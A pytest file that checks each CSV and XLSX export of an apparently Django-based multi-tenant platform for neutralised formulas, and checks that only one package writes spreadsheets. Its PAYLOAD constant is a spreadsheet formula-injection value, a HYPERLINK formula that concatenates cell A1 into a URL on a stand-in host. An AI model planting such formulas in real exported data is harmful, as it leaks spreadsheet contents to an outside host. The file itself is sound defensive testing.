"""Every CSV/XLSX the platform hands out neutralises formulas, and only core/exports writes them.

Export routes are found by walking both URL configurations (a route ending in .csv or .xlsx is an export): a
new export without a case below fails `test_every_export_route_has_a_case`. Each case plants a unit or value
named like a formula and checks the file: an apostrophe-led text in CSV, a plain string cell (no `<f>`) in XLSX.
A second test fails if any module but core/exports imports a CSV or XLSX writer.
"""

import ast
import csv
import datetime as dt
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from core.exports.cells import looks_like_formula
from core.imports.models import ImportJob, ImportKind, ImportStatus
from core.org.models import OrgUnit
from core.org.services import org_unit_create
from core.reports.refresh import tally_refresh
from core.stats.services import adoption_refresh
from tenants.models import Tenant
from tests.conftest import PASSWORD, host
from tests.core.stats.data import build_facts
from tests.factories.org import build_tree
from tests.helpers import in_tenant, web_login
from tests.routes import all_routes

PAYLOAD = '=HYPERLINK("http://x"&A1,"y")'
EXPORT_SUFFIXES = (".csv", ".xlsx")
ROOT = Path(__file__).resolve().parents[3]


def _adoption(alpha: Tenant, operator_client: Client, ext: str) -> tuple[Client, str]:
    with in_tenant(alpha):
        build_facts()
        OrgUnit.objects.filter(code="D1").update(name=PAYLOAD)
        adoption_refresh(timezone.localdate().replace(day=1))
    return operator_client, f"/console/dang-bo/{alpha.pk}/so-lieu/so-lieu.{ext}"


def _import_errors(alpha: Tenant, operator_client: Client, ext: str) -> tuple[Client, str]:
    with in_tenant(alpha):
        job = ImportJob.objects.create(
            kind=ImportKind.ORG,
            original_filename="to-chuc.csv",
            status=ImportStatus.FAILED,
            errors=[{"row": 2, "column": PAYLOAD, "value": PAYLOAD, "message": "Tên tổ chức không hợp lệ."}],
            error_count=1,
            finished_at=timezone.now(),
        )
    client = Client(HTTP_HOST=host("alpha"))
    web_login(client, "admin", PASSWORD)  # the tenant's first administrator
    return client, f"/nhap-du-lieu/{job.pk}/bao-cao-loi.{ext}"


def _admin_client() -> Client:
    client = Client(HTTP_HOST=host("alpha"))
    web_login(client, "admin", PASSWORD)  # the tenant's first administrator (superuser)
    return client


def _audit(alpha: Tenant, operator_client: Client, ext: str) -> tuple[Client, str]:
    """The audit CSV's "Đơn vị" column names the unit an entry concerns: a unit named like a formula."""
    with in_tenant(alpha):
        tree = build_tree()
        org_unit_create(code="F1", name=PAYLOAD, kind="cell", parent=tree.c1)
    return _admin_client(), f"/nhat-ky/nhat-ky.{ext}"


def _report(alpha: Tenant, operator_client: Client, ext: str) -> tuple[Client, str]:
    """The cells report lists every cell by name: one named like a formula."""
    with in_tenant(alpha):
        tree = build_tree()
        OrgUnit.objects.filter(pk=tree.x.pk).update(name=PAYLOAD)
        tally_refresh()
    return _admin_client(), f"/bao-cao/chi-bo.{ext}?unit=ROOT"


def _tenant_adoption(alpha: Tenant, operator_client: Client, ext: str) -> tuple[Client, str]:
    """The tenant host's adoption table names each child unit: a district named like a formula."""
    with in_tenant(alpha):
        build_facts()
        OrgUnit.objects.filter(code="D1").update(name=PAYLOAD)
        adoption_refresh(timezone.localdate().replace(day=1))
    return _admin_client(), f"/so-lieu/so-lieu.{ext}?unit=ROOT"


def _statement(alpha: Tenant, operator_client: Client, ext: str, *, console: bool) -> tuple[Client, str]:
    """The usage statement names the plan in its own cell: a plan named like a formula."""
    from billing_free.models import Plan
    from billing_free.plans import forget_plans

    Plan.objects.filter(tenantplan__tenant=alpha).update(name=PAYLOAD)
    forget_plans()
    if console:
        return operator_client, f"/console/dang-bo/{alpha.pk}/goi-dich-vu/sao-ke/sao-ke.{ext}"
    return _admin_client(), f"/goi-dich-vu/sao-ke/sao-ke.{ext}"


def _study(alpha: Tenant, operator_client: Client, ext: str) -> tuple[Client, str]:
    """The campaign report names every unit of the audience: a cell named like a formula."""
    from core.study.services import MaterialSpec, campaign_create

    with in_tenant(alpha):
        tree = build_tree()
        OrgUnit.objects.filter(pk=tree.x.pk).update(name=PAYLOAD)
        now = timezone.now()
        campaign = campaign_create(
            actor=tree.users["admin_d1"], unit=tree.d1, audience_unit=tree.d1, title="Nghị quyết 57",
            opens_at=now - dt.timedelta(days=1), closes_at=now + dt.timedelta(days=3), announce=False,
            materials=[MaterialSpec(title="Video", video_url="https://youtu.be/a")],
        )  # fmt: skip
    return _admin_client(), f"/hoc-tap/{campaign.pk}/bao-cao.{ext}?don_vi={tree.c1.pk}"


CASES: dict[str, Callable[[Tenant, Client, str], tuple[Client, str]]] = {
    "console:billing:statement_csv": lambda a, c, ext: _statement(a, c, ext, console=True),
    "billing:statement_csv": lambda a, c, ext: _statement(a, c, ext, console=False),
    "console:adoption:csv": _adoption,
    "console:adoption:xlsx": _adoption,
    "imports:errors_csv": _import_errors,
    "audit:csv": _audit,
    "reports:csv": _report,
    "reports:xlsx": _report,
    "stats:adoption_csv": _tenant_adoption,
    "stats:adoption_xlsx": _tenant_adoption,
    "study:report_csv": _study,
    "study:report_xlsx": _study,
}


def export_routes() -> dict[str, str]:
    return {r.name: r.pattern for r in all_routes() if r.pattern.endswith(EXPORT_SUFFIXES)}


def test_every_export_route_has_a_case():
    found = export_routes()
    assert "console:adoption:xlsx" in found and "imports:errors_csv" in found  # the walker sees both hosts
    missing = sorted(set(found) - set(CASES))
    assert not missing, f"export routes without a formula-injection case here: {missing}"
    assert all(name for name in found), "name every export route"


def _check_csv(body: bytes) -> None:
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    planted = [cell for cell in cells if "HYPERLINK" in cell]
    assert "'" + PAYLOAD in planted, planted
    assert not [cell for cell in planted if looks_like_formula(cell)], planted


def _check_xlsx(body: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                xml = archive.read(part).decode()
                assert "<f>" not in xml and "<f " not in xml, part
    book = load_workbook(io.BytesIO(body))
    planted = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if PAYLOAD in str(c.value)]
    assert any(c.value == PAYLOAD for c in planted), "the planted name is missing from the workbook"
    assert all(c.data_type == "s" for c in planted)
    assert all(c.quotePrefix for c in planted if c.value == PAYLOAD)


@pytest.mark.parametrize("name", sorted(CASES))
def test_export_neutralises_formulas(name, alpha, operator_client):
    pattern = export_routes()[name]
    ext = pattern.rsplit(".", 1)[1]  # "bao-cao/<slug:report>.csv" → csv
    client, url = CASES[name](alpha, operator_client, ext)
    response = client.get(url)
    assert response.status_code == 200, response.content[:300]
    assert "attachment" in response["Content-Disposition"]
    (_check_csv if ext == "csv" else _check_xlsx)(response.content)


# --- only core/exports writes spreadsheets ----------------------------------------------------------------------

FORBIDDEN_FROM = {"csv": {"writer", "DictWriter"}, "openpyxl": {"Workbook"}, "openpyxl.workbook": {"Workbook"}}
FORBIDDEN_ATTRS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook")}
FORBIDDEN_MODULES = ("xlsxwriter", "openpyxl.writer", "pyexcel", "tablib")
PACKAGES = ("api", "billing_free", "config", "core", "infra", "tenants")
WRITER_PACKAGE = ROOT / "core" / "exports"


def spreadsheet_writers(source: str) -> list[str]:
    """What in `source` writes CSV or XLSX without core/exports (e.g. "csv.writer", "from openpyxl import Workbook")."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.ImportFrom) and node.module:
            bad = FORBIDDEN_FROM.get(node.module, set()) & {a.name for a in node.names}
            found += [f"from {node.module} import {n}" for n in sorted(bad)]
            if node.module.startswith(FORBIDDEN_MODULES):
                found.append(f"from {node.module} import …")
        elif isinstance(node, ast.Import):
            found += [f"import {a.name}" for a in node.names if a.name.startswith(FORBIDDEN_MODULES)]
        elif (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and (node.value.id, node.attr) in FORBIDDEN_ATTRS
        ):
            found.append(f"{node.value.id}.{node.attr}")
    return found


def test_the_checker_sees_each_way_of_writing_a_spreadsheet():
    assert spreadsheet_writers("import csv\nw = csv.writer(out)") == ["csv.writer"]
    assert spreadsheet_writers("from csv import DictWriter") == ["from csv import DictWriter"]
    assert spreadsheet_writers("from openpyxl import Workbook, load_workbook") == ["from openpyxl import Workbook"]
    assert spreadsheet_writers("import openpyxl\nb = openpyxl.Workbook()") == ["openpyxl.Workbook"]
    assert spreadsheet_writers("import xlsxwriter") == ["import xlsxwriter"]
    assert spreadsheet_writers("import csv\nr = csv.reader(f)\nfrom openpyxl import load_workbook") == []


def test_only_core_exports_writes_csv_or_xlsx():
    offenders = {}
    for package in PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            if WRITER_PACKAGE in path.parents:
                continue
            found = spreadsheet_writers(path.read_text(encoding="utf-8"))
            if found:
                offenders[str(path.relative_to(ROOT))] = found
    assert not offenders, f"write CSV/XLSX through core/exports instead: {offenders}"
    writer_source = (WRITER_PACKAGE / "writers.py").read_text(encoding="utf-8")
    assert spreadsheet_writers(writer_source), "the checker must see the writer's own csv.writer"


def test_writer_keeps_numbers_and_dates_and_strips_control_characters():
    from core.exports.writers import Sheet, csv_text, xlsx_bytes

    assert csv_text([["-3", -3, "@x", " =1", "\tx", "an toàn"]], bom=False).strip() == "'-3,-3,'@x,' =1,'\tx,an toàn"
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("T", [[-3, dt.date(2026, 3, 1), "#N/A", "a\x01b"]])])))
    row = next(book.worksheets[0].iter_rows())
    assert [c.value for c in row[:1]] == [-3] and row[1].value == dt.datetime(2026, 3, 1)
    assert row[2].data_type == "s" and row[2].value == "#N/A" and row[3].value == "ab"
